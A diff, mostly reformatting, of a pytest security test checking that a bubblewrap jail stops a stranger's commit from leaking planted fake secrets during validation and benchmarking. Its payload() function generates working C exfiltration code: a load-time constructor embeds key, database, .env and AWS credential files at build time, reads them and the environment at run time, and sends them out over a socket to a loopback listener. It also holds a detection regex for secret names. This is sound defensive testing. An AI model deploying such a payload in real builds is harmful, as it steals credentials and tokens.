@@ -13,6 +13,7 @@ validation and benchmark) from a stand-in worker process that holds secrets in i
 every channel. Control: the same commit with `local_trust: all` (no jail) must leak every secret, so the
 search is known to find them.
 """
+
 from __future__ import annotations
 
 import json
@@ -25,19 +26,20 @@ import subprocess
 import sys
 import tempfile
 import uuid
+from collections.abc import Iterator
 from pathlib import Path
-from typing import Any, Iterator
+from typing import Any
 
 import pytest
+from engine_helpers import ROOT, make_repo, project, spec
+from loopback import LoopbackServer
 
 from bot.config import Settings
 from bot.experiments import jail, tasks
 from bot.experiments.executors import Batch, LocalExecutor, UntrustedRefused
-from engine_helpers import ROOT, make_repo, project, spec
-from loopback import LoopbackServer
 
 WORKER = ROOT / "tests" / "leak_worker.py"
-DOCKER_UID = 10001                                   # deploy/Dockerfile's `bot` user
+DOCKER_UID = 10001  # deploy/Dockerfile's `bot` user
 SECRET_FILES = ("key", "db", "config", "home", "other_run")
 
 
@@ -49,21 +51,30 @@ def _jail_or_skip(python: str = sys.executable) -> None:
 
 # ---------------------------------------------------------------------- the attack
 
+
 def payload(paths: dict[str, Path], tag: str, data_dir: Path, port: int, top: Path) -> str:
     """C source prepended to src/kernels.c by the stranger's commit."""
     embeds, build_reads, run_reads = [], [], []
     for i, (name, path) in enumerate(paths.items()):
-        embeds.append(f'#if __has_include("{path}")\n'
-                      f'__asm__(".pushsection .rodata\\n.globl ar_e{i}\\nar_e{i}:\\n.incbin \\"{path}\\"\\n'
-                      f'.globl ar_e{i}_end\\nar_e{i}_end:\\n.popsection");\n'
-                      f'extern const char ar_e{i}[], ar_e{i}_end[];\n#define AR_HAVE_{i} 1\n#endif\n')
-        build_reads.append(f'#ifdef AR_HAVE_{i}\n'
-                           f'    add("build:{name}", ar_e{i}, (size_t)(ar_e{i}_end - ar_e{i}));\n'
-                           f'#else\n    add("build:{name}", "absent", 6);\n#endif\n')
+        embeds.append(
+            f'#if __has_include("{path}")\n'
+            f'__asm__(".pushsection .rodata\\n.globl ar_e{i}\\nar_e{i}:\\n.incbin \\"{path}\\"\\n'
+            f'.globl ar_e{i}_end\\nar_e{i}_end:\\n.popsection");\n'
+            f"extern const char ar_e{i}[], ar_e{i}_end[];\n#define AR_HAVE_{i} 1\n#endif\n"
+        )
+        build_reads.append(
+            f"#ifdef AR_HAVE_{i}\n"
+            f'    add("build:{name}", ar_e{i}, (size_t)(ar_e{i}_end - ar_e{i}));\n'
+            f'#else\n    add("build:{name}", "absent", 6);\n#endif\n'
+        )
         run_reads.append(f'    add_file("run:{name}", "{path}");\n')
-    return ("#define _GNU_SOURCE\n#include <dirent.h>\n#include <arpa/inet.h>\n#include <stdio.h>\n"
+    return (
+        (
+            "#define _GNU_SOURCE\n#include <dirent.h>\n#include <arpa/inet.h>\n#include <stdio.h>\n"
             "#include <stdlib.h>\n#include <string.h>\n#include <sys/socket.h>\n#include <sys/stat.h>\n"
-            "#include <unistd.h>\n" + "".join(embeds) + r"""
+            "#include <unistd.h>\n"
+            + "".join(embeds)
+            + r"""
 static char ar_buf[1 << 21];
 static size_t ar_n;
 static void add(const char *tag, const char *p, size_t len) {
@@ -89,7 +100,10 @@ __attribute__((constructor)) static void ar_payload(void) {
     if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) strcpy(exe, "?");
     snprintf(line, sizeof line, "%s uid=%d", exe, (int)getuid());
     add("ran", line, strlen(line));
-""" + "".join(build_reads) + "".join(run_reads) + r"""
+"""
+            + "".join(build_reads)
+            + "".join(run_reads)
+            + r"""
     FILE *e = popen("env", "r");
     if (e) {
         static char tmp[1 << 16];
@@ -143,8 +157,13 @@ __attribute__((constructor)) static void ar_payload(void) {
     }
     if (sock >= 0) close(sock);
 }
-""").replace("TOP", f'"{top}"', 2).replace("TAG", f'"{tag}"').replace("DATA_DIR", f'"{data_dir}"') \
+"""
+        )
+        .replace("TOP", f'"{top}"', 2)
+        .replace("TAG", f'"{tag}"')
+        .replace("DATA_DIR", f'"{data_dir}"')
         .replace("htons(PORT)", f"htons({port})")
+    )
 
 
 class Listener(LoopbackServer):
@@ -174,42 +193,59 @@ class Host:
         self.secrets = {k: f"{k.upper()}-SECRET-{uuid.uuid4().hex}" for k in (*SECRET_FILES, "env")}
         if layout == "docker":
             self.data = top / "data"
-            self.paths = {"key": top / "run/secrets/app.pem", "db": self.data / "autoresearch.db",
-                          "config": top / "app/deploy/.env", "home": top / "home/bot/.aws/credentials",
-                          "other_run": self.data / "runs/99/work/notes.txt"}
+            self.paths = {
+                "key": top / "run/secrets/app.pem",
+                "db": self.data / "autoresearch.db",
+                "config": top / "app/deploy/.env",
+                "home": top / "home/bot/.aws/credentials",
+                "other_run": self.data / "runs/99/work/notes.txt",
+            }
             self.home = top / "home/bot"
             (self.home / ".sky").mkdir(parents=True)
             (self.home / ".sky" / "state.db").write_text(f"sky state {self.secrets['home']}\n")
         else:
             self.data = top / "srv/autoresearch/var"
-            self.paths = {"key": top / "srv/autoresearch/app.pem", "db": self.data / "autoresearch.db",
-                          "config": top / "etc/autoresearch/settings.yml",
-                          "home": top / "home/autoresearch/.aws/credentials",
-                          "other_run": self.data / "runs/99/work/notes.txt"}
+            self.paths = {
+                "key": top / "srv/autoresearch/app.pem",
+                "db": self.data / "autoresearch.db",
+                "config": top / "etc/autoresearch/settings.yml",
+                "home": top / "home/autoresearch/.aws/credentials",
+                "other_run": self.data / "runs/99/work/notes.txt",
+            }
             self.home = top / "home/autoresearch"
         for p in self.paths.values():
             p.parent.mkdir(parents=True, exist_ok=True)
-        self.paths["key"].write_text("-----BEGIN RSA PRIVATE KEY-----\n" + self.secrets["key"] +
-                                     "\n-----END RSA PRIVATE KEY-----\n")
-        with sqlite3.connect(self.paths["db"]) as db:                       # a real SQLite file
+        self.paths["key"].write_text(
+            "-----BEGIN RSA PRIVATE KEY-----\n" + self.secrets["key"] + "\n-----END RSA PRIVATE KEY-----\n"
+        )
+        with sqlite3.connect(self.paths["db"]) as db:  # a real SQLite file
             db.execute("CREATE TABLE artifacts (key TEXT, value TEXT)")
             db.execute("INSERT INTO artifacts VALUES ('token', ?)", (self.secrets["db"],))
-        config = (f"AUTORESEARCH_WEBHOOK_SECRET={self.secrets['config']}\n" if layout == "docker"
-                  else f"webhook_secret: {self.secrets['config']}\n")
+        config = (
+            f"AUTORESEARCH_WEBHOOK_SECRET={self.secrets['config']}\n"
+            if layout == "docker"
+            else f"webhook_secret: {self.secrets['config']}\n"
+        )
         self.paths["config"].write_text(config)
         self.paths["home"].write_text(f"[default]\naws_secret_access_key = {self.secrets['home']}\n")
         self.paths["other_run"].write_text(f"other run's worktree: {self.secrets['other_run']}\n")
-        self.base_dir = self.data / "executor" / "local"          # where bot.app.make_executor puts it
+        self.base_dir = self.data / "executor" / "local"  # where bot.app.make_executor puts it
         self.base_dir.mkdir(parents=True)
         self.tag = f"ar-{uuid.uuid4().hex[:12]}"
 
     def worker_env(self) -> dict[str, str]:
-        return {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(self.home), "LANG": "C.UTF-8",
-                "PYTHONPATH": str(ROOT), "AUTORESEARCH_WEBHOOK_SECRET": self.secrets["env"],
-                "AUTORESEARCH_GITHUB_PRIVATE_KEY_FILE": str(self.paths["key"]),
-                "AUTORESEARCH_DATABASE": str(self.paths["db"]), "AUTORESEARCH_DATA_DIR": str(self.data),
-                "GITHUB_TOKEN": "ghs_" + self.secrets["env"],
-                "ANTHROPIC_API_KEY": "sk-ant-" + self.secrets["env"]}
+        return {
+            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
+            "HOME": str(self.home),
+            "LANG": "C.UTF-8",
+            "PYTHONPATH": str(ROOT),
+            "AUTORESEARCH_WEBHOOK_SECRET": self.secrets["env"],
+            "AUTORESEARCH_GITHUB_PRIVATE_KEY_FILE": str(self.paths["key"]),
+            "AUTORESEARCH_DATABASE": str(self.paths["db"]),
+            "AUTORESEARCH_DATA_DIR": str(self.data),
+            "GITHUB_TOKEN": "ghs_" + self.secrets["env"],
+            "ANTHROPIC_API_KEY": "sk-ant-" + self.secrets["env"],
+        }
 
     def chown(self, uid: int) -> None:
         for dirpath, dirnames, filenames in os.walk(self.top):
@@ -219,13 +255,19 @@ class Host:
 
     def channels(self, listener: Listener) -> dict[str, str]:
         """Everything the candidate could write to that someone outside the jail can read."""
-        out = {"batch files, result.json, runner.log": "", "host /tmp": "", "data dir": "",
-               "network (host loopback)": listener.received.decode(errors="replace")}
+        out = {
+            "batch files, result.json, runner.log": "",
+            "host /tmp": "",
+            "data dir": "",
+            "network (host loopback)": listener.received.decode(errors="replace"),
+        }
         for p in self.base_dir.rglob("*"):
             if p.is_file() and not p.is_symlink():
                 out["batch files, result.json, runner.log"] += p.read_bytes().decode(errors="replace")
-        for name, path in (("host /tmp", Path("/tmp") / f"{self.tag}.leak"),
-                           ("data dir", self.data / f"{self.tag}.leak")):
+        for name, path in (
+            ("host /tmp", Path("/tmp") / f"{self.tag}.leak"),
+            ("data dir", self.data / f"{self.tag}.leak"),
+        ):
             if path.exists():
                 out[name] = path.read_text(errors="replace")
         return out
@@ -246,14 +288,36 @@ def stranger_commit(host: Host, listener: Listener, repo_dir: Path) -> tuple[dic
     return shas, bundle
 
 
-def run_worker(host: Host, shas: dict[str, str], bundle: Path, trust: str, python: str = sys.executable,
-               uid: int | None = None) -> dict[str, Any]:
+def run_worker(
+    host: Host,
+    shas: dict[str, str],
+    bundle: Path,
+    trust: str,
+    python: str = sys.executable,
+    uid: int | None = None,
+) -> dict[str, Any]:
     proj = project(rounds=2, repetitions=1, warmup=0, command="./bin/bench 50")
-    arg = {"base_dir": str(host.base_dir), "trust": trust, "lock": str(host.top / "bench.lock"), "run_id": 7,
-           "spec": spec(shas, ["stranger"], proj, run_id=7), "bundle": str(bundle), "timeout": 240}
-    p = subprocess.run([python, str(WORKER), json.dumps(arg)], env=host.worker_env(), cwd=str(host.top),
-                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=300,
-                       user=uid, group=uid, extra_groups=[] if uid is not None else None)
+    arg = {
+        "base_dir": str(host.base_dir),
+        "trust": trust,
+        "lock": str(host.top / "bench.lock"),
+        "run_id": 7,
+        "spec": spec(shas, ["stranger"], proj, run_id=7),
+        "bundle": str(bundle),
+        "timeout": 240,
+    }
+    p = subprocess.run(
+        [python, str(WORKER), json.dumps(arg)],
+        env=host.worker_env(),
+        cwd=str(host.top),
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        timeout=300,
+        user=uid,
+        group=uid,
+        extra_groups=[] if uid is not None else None,
+    )
     assert p.returncode == 0, p.stderr[-3000:]
     return json.loads(p.stdout.strip().splitlines()[-1])
 
@@ -276,17 +340,21 @@ def listener() -> Iterator[Listener]:
 
 def _report(label: str, host: Host, leaked: dict[str, list[str]]) -> None:
     n = sum(1 for v in leaked.values() if v)
-    print(f"\n[leak test] {label}: {n}/{len(leaked)} planted secrets leaked; " +
-          "; ".join(f"{k}: {', '.join(v) or 'nothing'}" for k, v in leaked.items()))
+    print(
+        f"\n[leak test] {label}: {n}/{len(leaked)} planted secrets leaked; "
+        + "; ".join(f"{k}: {', '.join(v) or 'nothing'}" for k, v in leaked.items())
+    )
 
 
 # ---------------------------------------------------------------------- the tests
 
-def test_stranger_fork_commit_reads_nothing_in_the_jail_and_everything_without(tmp_path: Path,
-                                                                              listener: Listener) -> None:
+
+def test_stranger_fork_commit_reads_nothing_in_the_jail_and_everything_without(
+    tmp_path: Path, listener: Listener
+) -> None:
     _jail_or_skip()
     results = {}
-    for trust in ("none", "all"):                          # jailed (the default), then the unsafe control
+    for trust in ("none", "all"):  # jailed (the default), then the unsafe control
         host = Host(tmp_path / trust / "host", "dev")
         try:
             shas, bundle = stranger_commit(host, listener, tmp_path / trust / "repo")
@@ -295,7 +363,7 @@ def test_stranger_fork_commit_reads_nothing_in_the_jail_and_everything_without(t
             assert got["state"] == "done", got
             r = result_of(host, got["handle"])
             assert {n: v["status"] for n, v in r["variants"].items()} == {"baseline": "ok", "stranger": "ok"}
-            assert len(r["variants"]["stranger"]["samples"]["softmax_ns"]) == 2       # benchmarked for real
+            assert len(r["variants"]["stranger"]["samples"]["softmax_ns"]) == 2  # benchmarked for real
             ran = dumps(host, got["handle"])
             # the payload ran in validation (bin/check) and in the benchmark (bin/bench)
             assert "/bin/check uid=" in ran and "/bin/bench uid=" in ran, ran[:2000]
@@ -306,18 +374,24 @@ def test_stranger_fork_commit_reads_nothing_in_the_jail_and_everything_without(t
     host, got, ran, leaked, _ = results["none"]
     _report("jailed (local_trust: none, root mode)", host, leaked)
     assert leaked == {k: [] for k in host.secrets}, leaked
-    assert f"uid={jail.JAIL_UID}" in ran and "uid=0" not in ran          # never root inside
-    assert "[build:key] absent" in ran and "[run:key] unreadable" in ran     # it tried, at build and run time
+    assert f"uid={jail.JAIL_UID}" in ran and "uid=0" not in ran  # never root inside
+    assert "[build:key] absent" in ran and "[run:key] unreadable" in ran  # it tried, at build and run time
     assert not (host.data / f"{host.tag}.leak").exists() and not (Path("/tmp") / f"{host.tag}.leak").exists()
-    env_seen = dict(line.split("=", 1) for line in ran.split("[env] ", 1)[1].split("\n[", 1)[0].splitlines()
-                    if "=" in line)
-    assert env_seen["HOME"] == "/tmp" and not [k for k in env_seen if re.search(
-        r"SECRET|TOKEN|KEY|GITHUB|ANTHROPIC|AWS|DATABASE|DATA_DIR|CONFIG|PYTHONPATH", k)], env_seen
+    env_seen = dict(
+        line.split("=", 1)
+        for line in ran.split("[env] ", 1)[1].split("\n[", 1)[0].splitlines()
+        if "=" in line
+    )
+    assert env_seen["HOME"] == "/tmp" and not [
+        k
+        for k in env_seen
+        if re.search(r"SECRET|TOKEN|KEY|GITHUB|ANTHROPIC|AWS|DATABASE|DATA_DIR|CONFIG|PYTHONPATH", k)
+    ], env_seen
     assert "jailed: bubblewrap root mode" in (host.base_dir / got["handle"] / "runner.log").read_text()
 
     host, got, ran, leaked, sent = results["all"]
     _report("control without the jail (local_trust: all)", host, leaked)
-    assert all(leaked[k] for k in host.secrets), leaked                # the search finds every secret
+    assert all(leaked[k] for k in host.secrets), leaked  # the search finds every secret
     assert sent > 0 and "uid=0" in ran
 
 
@@ -330,8 +404,10 @@ def test_docker_layout_non_root_bot_user_namespace_jail(listener: Listener) -> N
     as_bot: dict[str, Any] = {"user": DOCKER_UID, "group": DOCKER_UID, "extra_groups": []}
     if subprocess.run([python, "-c", "import yaml"], capture_output=True, **as_bot).returncode != 0:
         pytest.skip(f"{python} with PyYAML is needed to run the bot as uid {DOCKER_UID}")
-    code = ("import sys; sys.path.insert(0, sys.argv[1]); from bot.experiments import jail; "
-            "ok, why = jail.probe(sys.executable); print(why); sys.exit(0 if ok else 1)")
+    code = (
+        "import sys; sys.path.insert(0, sys.argv[1]); from bot.experiments import jail; "
+        "ok, why = jail.probe(sys.executable); print(why); sys.exit(0 if ok else 1)"
+    )
     check = subprocess.run([python, "-c", code, str(ROOT)], capture_output=True, text=True, **as_bot)
     if check.returncode != 0:
         pytest.skip(f"no user-namespace jail for a non-root bot: {check.stdout.strip()} {check.stderr[-99:]}")
@@ -349,7 +425,7 @@ def test_docker_layout_non_root_bot_user_namespace_jail(listener: Listener) -> N
         assert {n: v["status"] for n, v in r["variants"].items()} == {"baseline": "ok", "stranger": "ok"}
         ran = dumps(host, got["handle"])
         assert "/bin/check uid=" in ran and "/bin/bench uid=" in ran, ran[:2000]
-        assert f"uid={DOCKER_UID}" in ran                         # the bot's uid, in its own user namespace
+        assert f"uid={DOCKER_UID}" in ran  # the bot's uid, in its own user namespace
         leaked = host.leaked(listener)
         _report("Docker layout, non-root bot (user-namespace mode)", host, leaked)
         assert leaked == {k: [] for k in host.secrets}, leaked
@@ -360,8 +436,9 @@ def test_docker_layout_non_root_bot_user_namespace_jail(listener: Listener) -> N
 
 
 def test_without_a_jail_untrusted_candidates_are_refused_unless_local_trust_all(
-        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setenv("PATH", str(tmp_path / "empty"))       # no bwrap, no setpriv: no jail on this "host"
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("PATH", str(tmp_path / "empty"))  # no bwrap, no setpriv: no jail on this "host"
     jail._probe.cache_clear()
     try:
         ok, why = jail.probe()
@@ -371,7 +448,7 @@ def test_without_a_jail_untrusted_candidates_are_refused_unless_local_trust_all(
         with pytest.raises(UntrustedRefused, match="local_trust: all") as exc:
             ex.submit(batch)
         assert "bubblewrap" in str(exc.value) and "UNSAFE" in str(exc.value)
-        assert list((tmp_path / "runs").iterdir()) == []        # nothing was started or written
+        assert list((tmp_path / "runs").iterdir()) == []  # nothing was started or written
         assert LocalExecutor(tmp_path / "runs", trust="all").jail_plan() is None
     finally:
         jail._probe.cache_clear()
@@ -380,8 +457,9 @@ def test_without_a_jail_untrusted_candidates_are_refused_unless_local_trust_all(
 
 
 def test_settings_local_trust_and_jail_paths() -> None:
-    s = Settings.load(env={"AUTORESEARCH_LOCAL_TRUST": "all",
-                           "AUTORESEARCH_LOCAL_JAIL_PATHS": "/opt/a:/opt/b"})
+    s = Settings.load(
+        env={"AUTORESEARCH_LOCAL_TRUST": "all", "AUTORESEARCH_LOCAL_JAIL_PATHS": "/opt/a:/opt/b"}
+    )
     assert s.local_trust == "all" and s.local_jail_paths == ["/opt/a", "/opt/b"]
     assert Settings().local_trust == "none"
     with pytest.raises(Exception, match="local_trust"):
